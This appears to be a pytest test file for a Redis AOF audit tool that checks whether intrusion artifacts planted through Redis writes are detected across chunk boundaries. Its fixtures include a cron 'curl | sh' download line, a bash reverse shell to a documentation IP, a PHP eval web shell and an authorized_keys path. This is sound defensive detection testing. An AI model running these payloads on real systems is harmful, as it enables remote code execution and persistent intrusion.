"""What intruders leave is found, wherever the bytes are cut, and ordinary data is not taken for it."""

from __future__ import annotations

from pathlib import Path

import pytest

from aoftool.analysis.audit import intrusion
from aoftool.analysis.audit.audit import audit_log
from aoftool.analysis.audit.intrusion import intrusion_in, suspect_offsets
from aoftool.analysis.audit.model import AuditCode
from aoftool.aof.layout import find_log
from aoftool.files import open_source
from tests.builders import log

CRON = "\n\n*/2 * * * * root curl -fsSL http://198.51.100.7/x | sh\n\n"
KEY = "\n\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQDUMMY a@b\n\n"


@pytest.mark.parametrize(
    "argument",
    [
        CRON,
        KEY,
        "x; bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
        "<?php @eval($_POST[1]); ?>",
        "/root/.ssh/authorized_keys",
    ],
)
def test_what_an_intruder_writes_is_suspect(argument: str, tmp_path: Path) -> None:
    path = tmp_path / "a.aof"
    path.write_bytes(log(("SET", "a", "b"), ("SET", "backup1", argument), ("SET", "c", "d")))

    events = audit_log(find_log(str(path))).events

    assert [(event.code, event.command.offset) for event in events] == [(AuditCode.INTRUSION, 27)]
    assert argument[:10] not in events[0].text


@pytest.mark.parametrize(
    "argument",
    [
        "* * * * five stars * * *",
        "2 * * * 3",
        "my ssh-rsa key",
        "/usr/bin/shared",
        "<?php echo 1; ?>",
        "0 1 2 3 4",
    ],
)
def test_ordinary_data_is_not_suspect(argument: str) -> None:
    assert intrusion_in([b"SET", b"k", argument.encode()]) is None


def test_words_are_found_across_the_pieces_that_are_read(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "a"
    text = b"xxcrackityy" * 40 + b" * * * " + b"authorized_keys"
    path.write_bytes(text)
    expected = sorted(
        {at for at in range(len(text)) for word in intrusion._WORDS if text.startswith(word, at)}
    )

    for size in (1, 2, 7, 8, 9, 64):
        monkeypatch.setattr(intrusion, "_CHUNK", size)
        with open_source(path) as source:
            assert suspect_offsets(source, 0) == expected


def test_a_small_command_with_a_large_effect_is_told_once_for_a_key(tmp_path: Path) -> None:
    path = tmp_path / "a.aof"
    path.write_bytes(
        log(
            ("SETRANGE", "big", 10_000_000, "x"), ("SETRANGE", "big", 9_000_000, "x"),
            ("SETBIT", "bits", 80_000_000, 1),
            ("SETRANGE", "small", 100, "x"),
        )
    )  # fmt: skip

    events = [
        event for event in audit_log(find_log(str(path))).events if event.code is AuditCode.LARGE_EFFECT
    ]

    assert [event.command.argv[1] for event in events] == [b"big", b"bits"]


@pytest.mark.parametrize("read_bytes", [64, 1000, 1 << 20])
def test_one_reading_finds_words_in_commands_however_it_is_cut(
    read_bytes: int, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "a.aof"
    # A value that a reading without a look steps over, with what an intruder writes in its middle.
    large = "x" * 300_000 + "\n* * * * * root curl http://x/y | /bin/sh\n" + "y" * 300_000
    items = [("SET", f"k{number}", "v" * (number % 40)) for number in range(300)]
    items[17] = ("SET", "cron", "\n\n*/1 * * * * root sh /tmp/x\n")
    items[205] = ("SET", "large", large)
    items[299] = ("SET", "last", "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAB")
    path.write_bytes(log(*items))
    monkeypatch.setattr("aoftool.resp.batch._READ_BYTES", read_bytes)

    events = audit_log(find_log(str(path))).events

    found = [event.command.argv[1] for event in events if event.code is AuditCode.INTRUSION]
    assert found == [b"cron", b"last"]
    with open_source(path) as source:
        assert len(suspect_offsets(source, 0)) >= 3
